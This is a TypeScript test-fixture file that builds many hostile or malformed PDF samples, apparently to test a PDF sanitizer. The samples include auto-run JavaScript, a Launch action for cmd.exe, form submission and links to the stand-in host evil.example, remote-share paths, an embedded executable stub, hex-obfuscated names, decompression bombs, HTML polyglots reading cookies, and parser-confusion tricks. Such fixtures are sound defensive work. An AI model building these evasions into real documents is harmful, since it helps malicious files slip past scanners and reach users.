import { deflateSync } from 'node:zlib'
import { objectStream, pdfOf, pdfStream } from './sample-files.ts'

const page = '<script>alert(document.cookie)</script>'
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const opensWith = (action: string): Buffer => pdfOf({ catalogue: `/OpenAction ${action}` })
const withObject = (...objects: string[]): Buffer => pdfOf({ objects })
const honest = pdfOf().toString('latin1')
const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')
/** A PDF with this text inserted after its last object. */
const amid = (text: string): Buffer => bytes(honest.replace('xref\n0', `${text}\nxref\n0`))

/** A harmless compressed object, whose dictionary names the filter in this way. */
const packedNull = (filter: string): string =>
  pdfStream(`/Type /ObjStm /N 1 /First 4 ${filter}`, deflateSync('9 0 null').toString('latin1'))

/** Each opens as a PDF in some reader, and does something, contains something, or hides whether it does. */
export const hostilePdfs: Record<string, Buffer> = {
  'that runs a script when opened': opensWith(script),
  'that refers to a script': pdfOf({ catalogue: '/OpenAction 5 0 R', objects: [script] }),
  'that opens by an action elsewhere': pdfOf({
    catalogue: '/OpenAction 5 0 R',
    objects: ['<< /S /GoTo /D [3 0 R] >>'],
  }),
  'with a script by name': pdfOf({ catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  'with a script in a link': withObject('<< /Type /Annot /A << /S /JavaScript /JS (x) >> >>'),
  'with a script in one letter of numbers': withObject('<< /S /J#61vaScript >>'),
  'with a script in numbers alone': withObject('<< /S /#4a#61#76#61#53#63#72#69#70#74 >>'),
  'with the text of a script in numbers': withObject('<< /#4AS (x) >>'),
  'with a script over several lines': withObject('<</S\r\n/JavaScript%\n/JS\t(x)>>'),
  'that acts when a page is shown': pdfOf({ catalogue: '/AA << /WC 5 0 R >>' }),
  'that starts a program': withObject('<< /S /Launch /Win << /F (cmd.exe) >> >>'),
  'that sends what is typed': withObject('<< /S /SubmitForm /F (https://evil.example) >>'),
  'that takes in data': withObject('<< /S /ImportData /F (x) >>'),
  'that opens a file in a file': withObject('<< /S /GoToE >>'),
  'that opens a file on another machine': withObject('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>'),
  'that carries a file': withObject(pdfStream('/Type /EmbeddedFile', 'MZ')),
  'that names the files it carries': pdfOf({ catalogue: '/Names << /EmbeddedFiles 5 0 R >>' }),
  'that plays a film': withObject('<< /Subtype /RichMedia >>'),
  'that renders': withObject('<< /S /Rendition >>'),
  'with a form of its own kind': pdfOf({ catalogue: '/AcroForm << /XFA 5 0 R >>' }),
  'that calls a page when it is clicked': withObject('<< /S /URI /URI (https://evil.example) >>'),
  'that calls a page, in numbers': withObject('<< /S /#55#52#49 /U#52I (https://evil.example) >>'),
  'with an address that all its links begin with': pdfOf({ catalogue: '/URI << /Base (https://evil.example) >>' }),
  'that leads into a thread of another file': withObject('<< /S /Thread /D 0 >>'),
  'that leads into a thread, in numbers': withObject('<< /S /#54hread /D 0 >>'),
  'with data in a file elsewhere': withObject(pdfStream('/F (\\\\\\\\evil.example\\\\a)', '')),
  'with data in a file elsewhere, in numbers': withObject(pdfStream('/#46 (a)', '')),
  'with data in a file elsewhere, far behind': withObject(pdfStream(`/F${' '.repeat(5000)}(a)`, '')),
  'with data in a file elsewhere, behind a comment': withObject(pdfStream('/F%\n(a)', '')),
  'with data in a file elsewhere, as digits': withObject(pdfStream('/F <61>', '')),
  'with data in a file elsewhere, said twice': withObject(pdfStream('/F << /F (a) >>', '')),
  'with data in a file that another object names': withObject(pdfStream('/F 6 0 R', ''), '(a)'),
  'with data in a file elsewhere, packed there': withObject(pdfStream('/FFilter /FlateDecode', '')),
  'with a picture from another machine': withObject('<< /FS /URL >>'),
  'with the name of a file': withObject('<< /Type /Filespec >>'),
  'with the name of a file in another alphabet': withObject('<< /UF (a) >>'),
  'with a file pinned to a page': withObject('<< /Subtype /FileAttachment >>'),
  'that plays a film from a file': withObject('<< /Subtype /Movie >>'),
  'with a packed link': withObject(objectStream('<< /S /URI /URI (https://evil.example) >>')),
  'with a packed link in numbers': withObject(objectStream('<< /S /#55RI >>')),
  'with the packed name of a file': withObject(objectStream('<< /F (a) >>')),
  'of twenty thousand names': withObject(`<< ${'/a '.repeat(20_000)} >>`),
  'of twenty thousand packed names': withObject(objectStream(`<< ${'/a '.repeat(20_000)} >>`)),
  'that is encrypted': pdfOf({ trailer: '/Encrypt 5 0 R' }),
  'that is encrypted, in numbers': pdfOf({ trailer: '/#45ncrypt 5 0 R' }),

  'with a packed script': withObject(objectStream(script)),
  'with a packed script in numbers': withObject(objectStream('<< /S /J#61v#61Script >>')),
  'with a packed script in a list of packings': withObject(objectStream(script, { filter: '[ /FlateDecode ]' })),
  'with a script packed twice': withObject(objectStream(script, { filter: '[ /ASCIIHexDecode /FlateDecode ]' })),
  'with a script packed in another way': withObject(
    pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', '39203020'),
  ),
  'with a packing elsewhere': withObject(packedNull('/Filter 9 0 R')),
  'with a packing named twice': withObject(packedNull('/Filter /FlateDecode /Filter 9 0 R')),
  'with packed rows': withObject(objectStream('null', { more: '/DecodeParms << /Predictor 12 >>' })),
  'with packed objects of no type': withObject(
    pdfStream('/N 1 /First 4 /Filter /FlateDecode', deflateSync(`9 0 ${script}`).toString('latin1')),
  ),
  'with packed objects named in numbers': withObject(
    pdfStream('/N 1 /#46irst 4 /#46ilter /FlateDecode', deflateSync(`9 0 ${script}`).toString('latin1')),
  ),
  'with packed objects in the open': withObject(pdfStream('/Type /ObjStm /N 1 /First 4', `9 0 ${script}`)),
  'with packed objects that cannot be unpacked': withObject(
    pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'nothing'),
  ),
  'that unfolds to a hundred megabytes': withObject(objectStream(' '.repeat(100_000_000))),
  'with a script behind a broken packing': withObject(
    pdfStream(
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
      deflateSync(`9 0 ${script}`).subarray(0, -4).toString('latin1'),
    ),
  ),

  'with an object inside a string': amid(`(9 0 obj ${script} endobj)`),
  'with an object inside a comment': amid('% 9 0 obj << /S 1 >> endobj'),
  'with an object inside data': withObject(pdfStream('', '9 0 obj << /S 1 >> endobj')),
  'with an object inside data, after a comment': withObject(pdfStream('', '9 0%x\nobj<< /S 1 >>')),
  'with an ending inside data': withObject(pdfStream('', 'trailer << /Root 9 0 R >>')),
  'with data inside a dictionary': withObject(`<< /A << >> stream\n /OpenAction ${script} endstream >>`),
  'with data that follows nothing': withObject(`stream\n${script}\nendstream`),
  'with data that follows a string': withObject(`(>>stream\n) /OpenAction ${script} % endstream`),
  'of twenty thousand and one streams': withObject(`${pdfStream('', '')}\n`.repeat(20_001)),
  'with data without an end': withObject('<< >>\nstream\n'),
  'with an object inside a dictionary': withObject('<< /A 9 0 obj << >> >>'),
  'with a string without an end': withObject('(a'),
  'with the end of a string alone': withObject('a)'),
  'with brackets in a string that do not match': withObject('(a(b)\\)'),

  'after a page': bytes(page + honest),
  'after an empty line': bytes(`\n${honest}`),
  'followed by a page': bytes(honest + page),
  'followed by a page and another end': bytes(`${honest}${page}\nstartxref\n9\n%%EOF\n`),
  'with a page between its objects': amid(page),
  'followed by an archive': bytes(`${honest}PK\x03\x04 evil.class`),
  'of a version to come': pdfOf({ version: '3.0' }),
  'of its first line alone': bytes('%PDF-1.7\n'),
  'of its first and last line alone': bytes('%PDF-1.7\nstartxref\n0\n%%EOF'),
  'without its last line': bytes(honest.replace('%%EOF\n', '')),
  'that nothing leads into': bytes(honest.replace('startxref', 'startxxxx')),
  'cut off in the middle': bytes(honest.slice(0, honest.length / 2)),
}
